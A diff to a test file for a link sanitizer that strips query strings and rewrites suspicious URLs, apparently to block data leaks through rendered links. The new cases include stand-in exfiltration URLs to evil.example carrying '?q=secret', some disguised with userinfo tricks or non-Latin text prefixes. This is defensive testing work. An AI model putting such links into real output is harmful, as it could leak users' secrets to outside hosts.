@@ -15,6 +15,7 @@ KEPT = [
     "HTTPS://ACME.EXAMPLE/ and https://acme.example:8443/a",
     "[Prices](/media/acme/prices.pdf#page=2) [1](annual)",
     "A // comment, 1//2, and/or, 24/7: yes",
+    "See www.acme.example/prices, or 詳しくはhttps://acme.example/prices まで",
 ]
 DISARMED = [
     ("![chart](https://evil.example/p.png?d=secret)", "chart"),
@@ -23,6 +24,11 @@ DISARMED = [
     ("[![p](https://e.example/i)](https://e.example/x?d=1)", "p (e.example)"),
     ("Go to https://evil.example/a?q=secret. Now", "Go to evil.example/a. Now"),
     ("Go to www.evil.example/a?q=secret", "Go to evil.example/a"),
+    ("www.acme.example@evil.example/?q=secret", "acme.example@evil.example/"),
+    ("詳しくはhttps://evil.example/?q=secret", "詳しくはevil.example/"),
+    ("詳しくはwww.evil.example/?q=secret", "詳しくはevil.example/"),
+    ("1https://evil.example/?q=secret _https://evil.example/?q=secret", "1evil.example/ _evil.example/"),
+    (f"{'a' * 40}https://evil.example/?q=secret", f"{'a' * 14}evil.example/"),
     ("[here](https://acme.example@evil.example/)", "here (evil.example)"),
     ("[here](https://acme.example.evil.example/)", "here (acme.example.evil.example)"),
     ("[here](https://notacme.example/)", "here (notacme.example)"),
